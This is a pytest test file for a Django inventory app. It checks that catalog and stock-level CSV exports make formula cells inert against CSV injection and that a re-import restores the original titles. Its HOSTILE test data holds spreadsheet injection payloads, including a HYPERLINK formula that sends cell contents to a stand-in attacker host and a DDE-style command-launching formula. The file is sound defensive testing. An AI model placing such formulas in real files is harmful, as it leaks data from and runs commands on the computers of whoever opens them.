"""Every CSV export goes through one writer (core.csv_stream), which makes formula cells inert (OWASP's
CSV injection rule): text a shopper or a channel typed never runs in the merchant's spreadsheet."""

from __future__ import annotations

import csv
import io

import pytest

from accounts.tenancy import tenant_scope
from core.csv_stream import csv_cell
from inventory.models import Product
from inventory.services import imports
from tests.inventory.helpers import make_product

pytestmark = pytest.mark.django_db

HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1",
           "-2+3"]


def _rows(response) -> list[list[str]]:
    assert response.status_code == 200 and response.streaming
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode(), newline="")))


def test_catalog_and_levels_exports_neutralise_formula_cells(merchant_a):
    # Given: products whose titles and suppliers start with every formula trigger
    with tenant_scope(merchant_a.merchant):
        for i, text in enumerate(HOSTILE):
            make_product(merchant_a.merchant, f"P-{i}", on_hand=2, title=text, supplier=text)
    # When: the catalog and the stock levels are exported
    catalog = _rows(merchant_a.web.get("/inventory/catalog.csv"))
    levels = _rows(merchant_a.web.get("/inventory/export.csv"))
    # Then: each such cell starts with a single quote, and numbers are written as numbers
    title_at, supplier_at = catalog[0].index("title"), catalog[0].index("supplier")
    assert sorted(r[title_at] for r in catalog[1:]) == sorted("'" + t for t in HOSTILE)
    assert sorted(r[supplier_at] for r in catalog[1:]) == sorted("'" + t for t in HOSTILE)
    assert levels[0] == ["sku", "title", "location", "on_hand", "reserved", "available"]
    assert sorted(r[1] for r in levels[1:]) == sorted("'" + t for t in HOSTILE)
    assert {(r[3], r[4], r[5]) for r in levels[1:]} == {("2", "0", "2")}


@pytest.mark.parametrize(("value", "cell"), [
    ("\tTAB", "'\tTAB"), ("\rCR", "'\rCR"), ("=1", "'=1"), ("@A1", "'@A1"), ("-x", "'-x"), ("+x", "'+x"),
    ("plain = text", "plain = text"), ("", ""), (-3, -3), ("-3", "-3"), ("+2.5", "+2.5"), (None, None), ("+44 20 7946 0000", "+44 20 7946 0000"),
])
def test_the_writer_quotes_exactly_the_cells_a_spreadsheet_would_run(value, cell):
    assert csv_cell(value) == cell


def test_the_catalog_exported_and_imported_again_keeps_its_formula_looking_titles(merchant_a):
    # Given: products whose titles a spreadsheet would run, exported (made inert on the way out)
    with tenant_scope(merchant_a.merchant):
        for i, text in enumerate(HOSTILE):
            make_product(merchant_a.merchant, f"P-{i}", title=text, supplier="Acme")
    exported = b"".join(merchant_a.web.get("/inventory/catalog.csv").streaming_content)
    # When: the file is imported again as it is
    with tenant_scope(merchant_a.merchant):
        pv = imports.catalog_import(merchant=merchant_a.merchant, fileobj=io.BytesIO(exported), dry_run=False)
        titles = sorted(Product.objects.filter(merchant=merchant_a.merchant).values_list("title", flat=True))
    # Then: nothing changed: the guard's quote came off on the way in
    assert pv.error_count == 0
    assert titles == sorted(HOSTILE)
